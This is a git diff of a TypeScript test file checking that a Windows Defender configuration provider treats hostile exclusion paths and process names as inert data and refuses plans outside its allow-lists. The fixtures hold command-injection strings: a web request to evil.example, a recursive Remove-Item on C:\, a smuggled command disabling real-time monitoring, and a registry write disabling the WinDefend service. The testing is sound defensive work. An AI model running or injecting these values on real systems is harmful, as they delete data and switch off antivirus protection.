@@ -1,6 +1,7 @@
-// Hostile values never become code: exclusion paths and process names full of PowerShell and cmd.exe metacharacters
-// travel only inside the stdin JSON (never in argv or script text) and come back unchanged; a NUL is refused with a
-// clear error before any command runs; separators that would split an item on the device are refused per setting.
+// (d) Hostile values never become code: exclusion paths and process names full of PowerShell and cmd.exe metacharacters
+// (quotes, `$(`, newlines, wildcards) travel only inside the stdin JSON (never in argv or script text), to the MDM
+// store or, on a build without the bridge property, as Policies-key value names, and come back unchanged; a NUL is
+// refused with a clear error before any command runs; separators that would split an item are refused per setting.
 import { describe, expect, it } from 'vitest';
 import type { SettingChange } from '../../core/plan.js';
 import { WindowsDefenderProvider } from './defender-provider.js';
@@ -13,7 +14,9 @@ const HOSTILE = [
   'C:\\Data\\`whoami`',
   'C:\\Data\\a;Remove-Item C:\\ -Recurse',
   'C:\\Data\\a & calc.exe',
-  'C:\\Data\\a | Out-File C:\\pwned.txt',
+  'C:\\Data\\a > Out-File C:\\pwned.txt',
+  'C:\\Temp\\*.log',
+  'C:\\Data\\[a-z]?',
   'C:\\Data\\$(Invoke-WebRequest http://evil.example)',
   '%SystemRoot%\\..\\..\\Users\\%USERNAME%',
   'C:\\Data\\line1\nline2\r\nSet-MpPreference -DisableRealtimeMonitoring $true',
@@ -51,8 +54,36 @@ describe('hostile values are inert data', () => {
       }
     }
     const apply = recordedRuns(host.runner).find((r) => r.script === 'defender-apply');
-    expect(apply?.input).toMatchObject({ add: { ExclusionPath: HOSTILE, ExclusionProcess: PROCESSES } });
+    expect(apply?.input).toMatchObject({
+      bridge: [
+        { property: 'ExcludedPaths', value: HOSTILE.join('|') },
+        { property: 'ExcludedProcesses', value: PROCESSES.join('|') },
+        { property: 'ExcludedExtensions', value: '.$(calc)|.a;b' },
+      ],
+    });
     expect(apply?.spec.stdin).toBe(JSON.stringify(apply?.input));
+  });
+
+  it('on a build without the bridge property they become Policies-key value names, literally (wildcards included)', async () => {
+    const host = new DefenderEmulator();
+    host.bridgeProperties.Defender = host.bridgeProperties.Defender.filter((p) => p !== 'ExcludedPaths');
+    const provider = new WindowsDefenderProvider('antivirusExclusions', { runner: host.runner });
+    expect(await provider.apply([change('defender.ExcludedPaths', 'antivirusExclusions', HOSTILE)])).toEqual([
+      { settingId: 'defender.ExcludedPaths', ok: true },
+    ]);
+    const paths = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths';
+    expect(host.subkey(paths).map((e) => e.name)).toEqual(HOSTILE);
+    expect((await provider.observe(['defender.ExcludedPaths'])).get('defender.ExcludedPaths')).toEqual(HOSTILE);
+    // Removing one item removes exactly that value, not every name its wildcard would match.
+    await provider.apply([
+      change(
+        'defender.ExcludedPaths',
+        'antivirusExclusions',
+        HOSTILE.filter((h) => h !== 'C:\\Temp\\*.log'),
+        HOSTILE,
+      ),
+    ]);
+    expect(host.subkey(paths).map((e) => e.name)).toEqual(HOSTILE.filter((h) => h !== 'C:\\Temp\\*.log'));
   });
 
   it('the same holds for ASR exclusions, per-rule exclusions and the Windows Security contact strings', async () => {
@@ -108,21 +139,30 @@ describe('hostile values are inert data', () => {
     const asr = new WindowsDefenderProvider('asr', { runner: host.runner });
     const [perRule] = await asr.apply([change('asrExclusions.d4f940ab-401b-4efc-aadc-ad5f3c50688a', 'asr', ['C:\\a>C:\\b'])]);
     expect(perRule).toMatchObject({ ok: false, code: 'SETTING_APPLY_FAILED', message: expect.stringMatching(/contain '>'/) });
-    const experience = new WindowsDefenderProvider('securityExperience', { runner: host.runner });
-    const [phone] = await experience.apply([change('securityCenter.Phone', 'securityExperience', '+1 555\r\n0100', '')]);
-    expect(phone).toMatchObject({ ok: false, code: 'SETTING_APPLY_FAILED', message: expect.stringMatching(/line break/) });
+    const ex = new WindowsDefenderProvider('antivirusExclusions', { runner: host.runner });
+    const [paths] = await ex.apply([change('defender.ExcludedPaths', 'antivirusExclusions', ['C:\\a|C:\\b'])]);
+    expect(paths).toMatchObject({ ok: false, code: 'SETTING_APPLY_FAILED', message: expect.stringMatching(/contain '\|'/) });
     expect(recordedRuns(host.runner).map((r) => r.script)).toEqual(['defender-apply']);
   });
 
-  it('a plan naming a parameter or key outside the allow-lists is refused as a whole (script contract, as emulated)', async () => {
+  it('a plan naming a class, property, parameter or key outside the allow-lists is refused as a whole (script contract, as emulated)', async () => {
     const host = new DefenderEmulator();
     const { runPowerShell } = await import('./powershell.js');
     const { DEFENDER_APPLY } = await import('./defender-scripts.js');
     const { emptyPlan } = await import('./defender-plan.js');
-    const plan = { ...emptyPlan(), mp: { 'DisableRealtimeMonitoring; calc': true } };
-    await expect(runPowerShell(host.runner, DEFENDER_APPLY, plan)).rejects.toThrow(/not in the allow-list/);
-    const reg = { ...emptyPlan(), registry: [{ key: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend', name: 'Start', type: 'DWord', value: 4 }] };
-    await expect(runPowerShell(host.runner, DEFENDER_APPLY, reg)).rejects.toThrow(/not in the allow-list/);
-    expect(host.preference.DisableRealtimeMonitoring).toBe(false);
+    const ok = { cls: 'Defender', property: 'PUAProtection', value: 1, step: 's', fallback: [] };
+    const plans = [
+      { ...emptyPlan(), bridge: [ok], preference: { ...emptyPlan().preference, mp: { 'DisableRealtimeMonitoring; calc': true } } },
+      { ...emptyPlan(), bridge: [ok, { ...ok, property: 'EnableNetworkProtection; calc' }] },
+      { ...emptyPlan(), bridge: [ok, { ...ok, cls: 'Firewall' }] },
+      {
+        ...emptyPlan(),
+        bridge: [ok],
+        registry: [{ step: 's', ops: [{ op: 'set', key: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend', name: 'Start', type: 'DWord', value: 4 }] }],
+      },
+    ];
+    for (const plan of plans) await expect(runPowerShell(host.runner, DEFENDER_APPLY, plan)).rejects.toThrow(/not in the allow-list/);
+    expect(host.bridge.Defender).toBeNull();
+    expect(host.policies.keys.size).toBe(0);
   });
 });
